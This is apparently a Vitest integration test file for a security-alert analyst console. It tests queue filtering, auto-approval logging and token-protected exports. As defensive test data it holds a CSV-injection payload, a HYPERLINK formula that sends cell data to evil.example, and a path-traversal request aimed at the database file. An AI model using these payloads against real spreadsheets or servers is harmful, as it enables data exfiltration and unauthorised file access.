/**
 * The analyst console's core requests on a real service and SQLite file: queue filters and
 * grouping, auto-approval (off by default, logged as automatic), and exports of decisions and the
 * audit log (CSV/JSON, downloadable from the headless host with the token only).
 */
import Database from 'better-sqlite3';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAppService } from '../../src/main/app/service';
import type { AppService } from '../../src/main/app/types';
import { writeDemoCsv } from '../../src/main/domain/demo';
import { createHeadlessHost, type HeadlessHost } from '../../src/main/transports/server';
import type { LoadFinished, RequestArgs, RequestName } from '../../src/shared/contract';
import { callService, loadPaths } from '../helpers/service';

let dir: string;
let svc: AppService;
let datasetId: number;

const call = <K extends RequestName>(name: K, args: RequestArgs<K>) => callService(svc, name, args);

const load = (path: string): Promise<LoadFinished> => loadPaths(svc, [path]);

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'rampart-console-'));
  await writeDemoCsv(join(dir, 'a.csv'), { rows: 4000, seed: 21, mix: 'balanced' });
  svc = await createAppService({
    dbPath: join(dir, 'db.sqlite'),
    host: 'headless',
    seedDemo: false,
    policyTraining: { passes: 2 },
  });
  const fin = await load(join(dir, 'a.csv'));
  expect(fin).toMatchObject({ ok: true, error: null });
  datasetId = fin.datasetId!;
}, 180_000);

afterAll(async () => {
  await svc.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('alert queue filters and groups', () => {
  it('filters by confidence range, recommended action, signature and text', async () => {
    const all = await call('alerts.query', { datasetId, limit: 1000 });
    const first = all.rows.find((r) => r.recommendation)!;
    const byAction = await call('alerts.query', {
      datasetId,
      action: first.recommendation!.action,
      limit: 1000,
    });
    expect(byAction.total).toBeGreaterThan(0);
    expect(
      byAction.rows.every((r) => r.recommendation?.action === first.recommendation!.action),
    ).toBe(true);
    const conf = await call('alerts.query', {
      datasetId,
      minConfidence: 0.9,
      maxConfidence: 0.99,
      limit: 1000,
    });
    expect(conf.rows.every((r) => r.confidence.mean >= 0.9 && r.confidence.mean <= 0.99)).toBe(
      true,
    );
    const bySig = await call('alerts.query', {
      datasetId,
      signatureId: first.signatureId,
      limit: 5,
    });
    expect(bySig.rows.every((r) => r.signatureId === first.signatureId)).toBe(true);
    const ip = first.src!.split(':')[0]!;
    const byText = await call('alerts.query', { datasetId, text: ip, limit: 1000 });
    expect(byText.total).toBeGreaterThan(0);
    expect(byText.rows.every((r) => `${r.src} ${r.dst} ${r.signatureText}`.includes(ip))).toBe(
      true,
    );
    // An endpoint pasted as shown (ip:port) finds its flow.
    const byEndpoint = await call('alerts.query', { datasetId, text: first.src!, limit: 1000 });
    expect(byEndpoint.rows.map((r) => r.id)).toContain(first.id);
    // LIKE wildcards in the text are literal.
    expect((await call('alerts.query', { datasetId, text: '%' })).total).toBe(0);
    const sorted = await call('alerts.query', {
      datasetId,
      sort: 'probability',
      desc: true,
      limit: 50,
    });
    const probs = sorted.rows.map((r) => r.recommendation!.probability);
    expect(probs).toEqual([...probs].sort((a, b) => b - a));
  });

  it('groups the queue with counts that add up to the dataset', async () => {
    const q = await call('alerts.queue', { datasetId, hideBenign: false, limit: 1000 });
    const total = (await call('alerts.query', { datasetId, limit: 1 })).total;
    expect(q.alerts).toBe(total);
    expect(q.rows.every((g) => g.topAction !== null && g.pending <= g.alerts)).toBe(true);
  });
});

describe('auto-approve', () => {
  it('is off by default, refuses unknown classes, and approves above the threshold as automatic', async () => {
    expect(await call('autoApprove.get', {})).toEqual({ thresholds: {} });
    await expect(call('autoApprove.set', { thresholds: { Martian: 0.9 } })).rejects.toThrow(
      /unknown class/,
    );
    await call('autoApprove.set', { thresholds: { DDoS: 0.5 } });
    // A second load of the same traffic gets recommendations, and DDoS ones are auto-approved.
    await writeDemoCsv(join(dir, 'b.csv'), { rows: 1500, seed: 22, mix: 'balanced' });
    const fin = await load(join(dir, 'b.csv'));
    expect(fin.ok).toBe(true);
    const auto = await call('alerts.query', {
      datasetId: fin.datasetId!,
      status: 'auto',
      limit: 1000,
    });
    expect(auto.total).toBeGreaterThan(0);
    expect(auto.rows.every((r) => r.predictedClass === 'DDoS' && r.confidence.mean >= 0.5)).toBe(
      true,
    );
    // Never one the console flags for review (issue 12): an analyst looks at those.
    expect(auto.rows.every((r) => r.recommendation?.risk?.needsReview === false)).toBe(true);
    const otherDdos = await call('alerts.query', {
      datasetId: fin.datasetId!,
      predictedClass: 'DDoS',
      status: 'pending',
    });
    expect(
      otherDdos.rows.every(
        (r) => r.confidence.mean < 0.5 || r.recommendation?.risk?.needsReview === true,
      ),
    ).toBe(true);
    const d = (await call('alerts.detail', { id: auto.rows[0]!.id }))!;
    expect(d.decisions[0]).toMatchObject({ kind: 'auto', actor: 'rampart:auto-approve' });
    const db = new Database(svc.dbPath, { readonly: true });
    const audit = db
      .prepare('SELECT automatic FROM audit WHERE id = ?')
      .get(d.decisions[0]!.auditId) as { automatic: number };
    db.close();
    expect(audit.automatic).toBe(1);
    await call('autoApprove.set', { thresholds: { DDoS: null } });
  }, 120_000);
});

describe('exports', () => {
  let host: HeadlessHost;
  beforeAll(async () => {
    host = await createHeadlessHost({ service: svc, port: 0 });
  });
  afterAll(async () => {
    await host.close();
  });

  it('writes decisions and the audit log as CSV and JSON, and the host serves them with the token', async () => {
    const page = await call('alerts.query', { datasetId, status: 'pending', limit: 2 });
    await call('alerts.decide', {
      alertIds: [page.rows[0]!.id],
      decision: 'override',
      action: 1,
      note: 'says "hi", with a comma',
    });
    const csv = await call('export.decisions', { what: 'decisions', format: 'csv', datasetId });
    expect(csv.rows).toBeGreaterThanOrEqual(1);
    const text = readFileSync(csv.path, 'utf8');
    const [header, ...lines] = text.trimEnd().split('\n');
    expect(header).toContain('recommended_action_id');
    expect(header).not.toMatch(/(^|,)(recommended|action)(,|$)/);
    expect(lines).toHaveLength(csv.rows);
    expect(text).toContain('"says ""hi"", with a comma"');
    const json = await call('export.decisions', { what: 'audit', format: 'json' });
    const audit = JSON.parse(readFileSync(json.path, 'utf8')) as { detail: unknown }[];
    expect(audit.length).toBe(json.rows);
    expect(typeof audit.at(-1)!.detail).toBe('object');
    const url = new URL(csv.url!, host.url);
    const denied = await fetch(url, { method: 'POST' });
    expect(denied.status).toBe(401);
    const ok = await fetch(url, {
      method: 'POST',
      headers: { Authorization: `Bearer ${host.token}` },
    });
    expect(ok.status).toBe(200);
    expect(await ok.text()).toBe(text);
    const evil = new URL('/api/export-file?name=..%2Fdb.sqlite', host.url);
    const bad = await fetch(evil, {
      method: 'POST',
      headers: { Authorization: `Bearer ${host.token}` },
    });
    expect(bad.status).toBe(400);
  });

  it('neutralises a hostile note and actor in the decisions CSV (OWASP CSV injection)', async () => {
    const page = await call('alerts.query', { datasetId, status: 'pending', limit: 1 });
    const alertId = page.rows[0]!.id;
    const note = '=HYPERLINK("http://evil.example/?d="&A1,"details")';
    // A hostile actor name can only come from a transport's identity (e.g. an analysts file).
    await callService(
      svc,
      'alerts.decide',
      { alertIds: [alertId], decision: 'approve', note },
      { actor: '@x' },
    );
    const csv = await call('export.decisions', { what: 'decisions', format: 'csv', datasetId });
    const [header, ...lines] = readFileSync(csv.path, 'utf8').trimEnd().split('\n');
    const columns = header!.split(',');
    const mine = lines.filter((l) => l.split(',')[columns.indexOf('alert_id')] === String(alertId));
    expect(mine).toHaveLength(1);
    expect(mine[0]).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")"`);
    expect(mine[0]).toContain(`"'@x"`);
    expect(mine[0]).not.toMatch(/(^|,)[=+\-@]/);
    // Ids and ports stay numbers.
    expect(mine[0]!.split(',')[columns.indexOf('dataset_id')]).toBe(String(datasetId));
  });
});
